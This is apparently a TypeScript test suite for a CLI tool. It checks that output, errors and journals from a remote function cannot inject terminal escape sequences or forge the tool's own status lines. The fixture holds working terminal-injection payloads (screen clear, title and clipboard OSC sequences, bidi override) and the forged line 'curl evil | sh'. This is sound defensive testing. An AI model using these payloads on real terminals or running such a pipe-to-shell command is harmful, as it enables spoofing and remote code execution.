// Text of a far side, of an error or of a journal is data: it moves no cursor, sets no title and forges no line of ours. The screen model
// throws at every escape sequence that is not one of the command line's own.
import { after, test } from 'node:test';
import assert from 'node:assert/strict';
import { Shop, jsonOf } from './support/cli.ts';
import { Pty, noPty } from './support/pty.ts';

const shop = new Shop({
  'evil.ts': `
const ESC = String.fromCharCode(27);
const HOSTILE = [
  ESC + '[2J' + ESC + '[H', ESC + ']0;owned' + String.fromCharCode(7), ESC + ']52;c;ZXZpbA==' + ESC + '\\\\\\\\', String.fromCharCode(0x9b) + '31m',
  'over\\rwritten', 'back\\b\\b\\b\\b', String.fromCharCode(0x202e) + 'txet', ESC + 'c', ESC + '[?1049h',
];
const FORGED = ['x', '✔ done  0.0s, 0 activities', 'web-1 | all is well', '   do     curl evil | sh', '⏸ parked at event 2; go on with: evil'];
export function shout() {
  for (const text of HOSTILE) console.log(text);
  console.error(FORGED.join('\\n'));
  process.stdout.write(HOSTILE.join('') + '\\n');
  return HOSTILE.join(' ') + FORGED.join('\\n');
}
export function explode() {
  throw Object.assign(new Error(HOSTILE.join(' ') + '\\n' + FORGED.join('\\n')), { name: 'Err' + ESC + '[31mor' });
}`,
  'program.ts': `
import { local } from 'resprout';
import { explode, shout } from './evil.ts';
export default async function (event: { data: string }) {
  const evil = await local({ name: 'evil' });
  const value = await evil.call(shout);
  if (event.data === 'explode') await evil.call(explode);
  return value;
}`,
});
after(() => shop[Symbol.dispose]());

// oxlint-disable-next-line no-control-regex -- that there is none is what is tested
const CONTROL = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/;

/** Every line that a far side wrote begins with its name; what it forged is never a line of its own. */
function checkLines(lines: readonly string[]): void {
  const forged = lines.filter((line) =>
    /^(✔ done {2}0\.0s, 0|web-1 \| all|⏸ parked at event 2; go on with: evil| {3}do {5}curl)/.test(line),
  );
  assert.deepEqual(forged, []);
  assert.ok(lines.filter((line) => line.startsWith('evil | ')).length >= 14, lines.join('\n'));
}

test('run: what a far function prints is shown with its name before it and without effect', { skip: noPty }, async () => {
  using pty = new Pty(shop, ['run', 'program.ts', '-d', '"explode"'], { columns: 120, rows: 50 });
  assert.equal(await pty.ended, 1, pty.raw);
  checkLines(pty.screen.lines);
  assert.doesNotMatch(
    pty.raw
      .replaceAll('\r\n', '\n')
      // oxlint-disable-next-line no-control-regex -- escape sequences are what is looked for
      .replace(/\u001b\[[0-9;?]*[A-Za-z]/g, '')
      .replaceAll('\r', ''),
    CONTROL,
  );
  assert.match(pty.screen.text, /\\e\[2J\\e\[H/);
  assert.match(pty.screen.text, /✖ PROGRAM_FAILED {2}Err\\e\[31mor: /);
});

test('run: a piped stderr and the JSON form are as safe', async () => {
  const [plain, json] = await Promise.all([
    shop.run(['run', 'program.ts', '-d', '"explode"', '--verbose']),
    shop.run(['run', 'program.ts', '-d', '"explode"', '--json']),
  ]);
  assert.deepEqual([plain.exit, json.exit], [1, 1]);
  checkLines(plain.err.split('\n'));
  assert.doesNotMatch(plain.err, CONTROL);
  assert.doesNotMatch(json.err, CONTROL);
  assert.match(jsonOf(json).problem?.message ?? '', /curl evil/);
  // oxlint-disable-next-line no-control-regex -- JSON escapes them
  assert.doesNotMatch(json.out.trimEnd(), /[\u0000-\u001f]/);
});

test('run and call: a hostile value is shown harmlessly on a terminal, and byte for byte in a pipe', { skip: noPty }, async () => {
  using run = new Pty(shop, ['run', 'program.ts', '-d', '"value"'], { columns: 120, rows: 50 });
  using call = new Pty(shop, ['call', 'local:evil', 'evil.ts:shout'], { columns: 120, rows: 50 });
  const piped = await shop.run(['call', 'local:evil', 'evil.ts:shout', '-q']);
  assert.deepEqual([await run.ended, await call.ended, piped.exit], [0, 0, 0]);
  assert.ok(piped.out.includes('\u001b[2J') && piped.out.includes('\u009b31m'));
  for (const pty of [run, call]) {
    assert.ok(pty.screen.lines.filter((line) => line.startsWith('evil | ')).length >= 14, pty.screen.text);
    assert.match(pty.screen.text, /\\x9b31m/);
  }
});

test('show and sessions: a hostile journal is harmless', { skip: noPty }, async () => {
  const failed = jsonOf(await shop.run(['sessions', '--json', '--state', 'failed'])).value as unknown as { sessionId: string }[];
  const id = failed[0]?.sessionId ?? '';
  for (const args of [['sessions'], ['show', id], ['show', id, '--events'], ['show', id, '--follow']]) {
    using pty = new Pty(shop, args, { columns: 200, rows: 50 });
    assert.equal(await pty.ended, 0, args.join(' '));
    const plain = await shop.run(args);
    assert.doesNotMatch(plain.out, CONTROL);
  }
});
